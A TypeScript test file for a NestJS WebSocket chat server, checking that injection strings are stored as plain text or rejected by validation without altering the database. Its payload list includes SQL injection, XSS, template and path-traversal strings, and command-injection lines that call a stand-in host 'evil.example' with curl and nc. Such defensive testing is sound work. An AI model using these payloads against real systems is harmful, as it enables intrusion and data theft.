import type { INestApplication } from '@nestjs/common';
import { Test } from '@nestjs/testing';
import { connect, FakeClock, SecureWsTestingModule, testIdentity, type WsTestClient } from '@secure-ws/nestjs/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AppModule } from '../app.module.js';
import type { Database } from '../database/database.js';
import { openDatabase } from '../database/open-database.js';
import { forMember } from '../database/row-security.js';
import { seedDemo } from '../demo/seed-demo.js';

const ORIGIN = 'https://chat.example.com';

/** What injects where a text becomes part of a statement, a query, a page, a command, a template or a path. */
const TEXTS: readonly (readonly [into: string, text: string])[] = [
  ['SQL', "' OR '1'='1"],
  ['SQL', "'; DROP TABLE messages; --"],
  ['SQL', "general' UNION SELECT id::text, username, password_hash, '', '' FROM users --"],
  ['SQL', "'||(SELECT password_hash FROM users LIMIT 1)||'"],
  ['SQL', "'; SELECT pg_sleep(10); --"],
  ['SQL', "\\'; DELETE FROM users; --"],
  ['SQL', '$1; $2::integer'],
  ['SQL', 'general%'],
  ['NoSQL', '{"$gt":""}'],
  ['NoSQL', "'; return true; var x='"],
  ['NoSQL', 'this.password.match(/.*/)//'],
  ['HTML', '<script>alert(document.cookie)</script>'],
  ['HTML', '"><img src=x onerror=alert(1)>'],
  ['HTML', '<svg/onload=alert(1)>'],
  ['HTML', "javascript:/*--></title></style></textarea></script><svg onload='alert(1)'>"],
  ['command', '; cat /etc/passwd'],
  ['command', '$(curl https://evil.example)'],
  ['command', '`id`'],
  ['command', '| nc evil.example 4444'],
  ['command', '&& shutdown -h now'],
  ['template', '{{constructor.constructor("return process")().exit()}}'],
  ['template', '${7*7}'],
  ['template', '<%= process.env.JWT_SECRET %>'],
  ['template', '#{7*7}'],
  ['path', '../../../../etc/passwd'],
  ['path', '..\\..\\windows\\win.ini'],
  ['path', '%2e%2e%2f%2e%2e%2fetc%2fpasswd'],
  ['path', 'file:///etc/passwd'],
  ['LDAP', '*)(uid=*))(|(uid=*'],
  ['XML', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
  ['log', 'a\nERROR admin logged in'],
  ['format', '%s%n%x%d'],
];

/** What injects by its type. */
const OBJECTS: readonly unknown[] = [
  { $gt: '' },
  { $ne: null },
  { $regex: '.*' },
  { $where: 'sleep(1000)' },
  { toString: 'x' },
  { length: 5 },
  ['general'],
  [['general']],
  [{ $gt: '' }],
  true,
  0,
  -1,
  null,
];

describe('MV-14 an injection', () => {
  const clock = new FakeClock();
  let app: INestApplication;
  let database: Database;
  let client: WsTestClient;
  let before: object;
  let aliceId: string;

  /** Everything but the messages, which the texts are stored in. */
  const contents = async (): Promise<object> => ({
    users: await database.query('SELECT id, username, display_name, password_hash FROM users ORDER BY id'),
    rooms: await database.query('SELECT id, name, topic FROM rooms ORDER BY id'),
    memberships: await database.query('SELECT room_id, user_id FROM memberships ORDER BY room_id, user_id'),
    tables: await database.query(`SELECT tablename FROM pg_tables WHERE schemaname = 'public' ORDER BY tablename`),
  });

  beforeAll(async () => {
    database = await openDatabase('memory');
    await seedDemo(database);
    before = await contents();
    const settings = { publicUrl: ORIGIN, origins: [ORIGIN], accessMs: 900_000 };
    const testing = await Test.createTestingModule({
      imports: [AppModule.forRoot(settings, database), SecureWsTestingModule.forRoot({ clock })],
    }).compile();
    app = testing.createNestApplication({ logger: false });
    await app.listen(0, '127.0.0.1');
    const [alice] = await database.query<{ id: string }>(`SELECT id FROM users WHERE username = 'alice'`);
    aliceId = alice?.id ?? '';
    const as = testIdentity({ id: aliceId });
    client = await connect(app, { path: '/chat', as, origin: ORIGIN, credentialIn: 'subprotocol' });
    // Real work on a machine that may be busy: a deadline would measure the machine.
  }, Infinity);

  afterAll(async () => {
    await client.close();
    await app.close();
  });

  it.each(TEXTS)('into %s is stored as the text that it is: %s', async (_, text) => {
    clock.advance(10_000);
    const reply = await client.request('message.send', { roomId: 'general', text });
    expect(reply).toMatchObject({ event: 'message.send', data: { text } });
    const stored = await forMember(database, { memberId: aliceId }, (own) =>
      own.query('SELECT text FROM messages ORDER BY id DESC LIMIT 1'),
    );
    expect(stored).toEqual([{ text }]);
    const { data } = await client.request('message.history', { roomId: 'general' });
    expect((data as { messages: unknown[] }).messages.at(-1)).toEqual(reply.data);
    expect(await contents()).toEqual(before);
  });

  it.each(TEXTS)('into %s names no room, and no message: %s', async (_, text) => {
    clock.advance(10_000);
    for (const event of ['room.join', 'message.history', 'message.send']) {
      const reply = await client.request(event, { roomId: text, ...(event === 'message.send' ? { text: 'a' } : {}) });
      const issues = [{ path: 'roomId', rule: 'matches' }];
      expect(reply).toMatchObject({ event: 'error', data: { code: 'VALIDATION_FAILED', issues } });
    }
    const reply = await client.request('message.history', { roomId: 'general', before: text });
    const issues = [{ path: 'before', rule: 'isInt' }];
    expect(reply).toMatchObject({ event: 'error', data: { code: 'VALIDATION_FAILED', issues } });
    expect(await contents()).toEqual(before);
  });

  it.each(OBJECTS.map((object) => [object] as const))('is stopped by its type: %j', async (object) => {
    clock.advance(10_000);
    for (const data of [
      { roomId: object, text: 'a' },
      { roomId: 'general', text: object },
    ]) {
      const reply = await client.request('message.send', data);
      expect(reply).toMatchObject({ event: 'error', data: { code: 'VALIDATION_FAILED' } });
    }
    if (object !== null) {
      const reply = await client.request('message.history', { roomId: 'general', before: object });
      expect(reply).toMatchObject({ event: 'error', data: { code: 'VALIDATION_FAILED' } });
    }
    expect(await contents()).toEqual(before);
    // The same connection lives: nothing of it was an error of the server.
    expect(await client.request('room.join', { roomId: 'general' })).toMatchObject({ event: 'room.join' });
  });
});
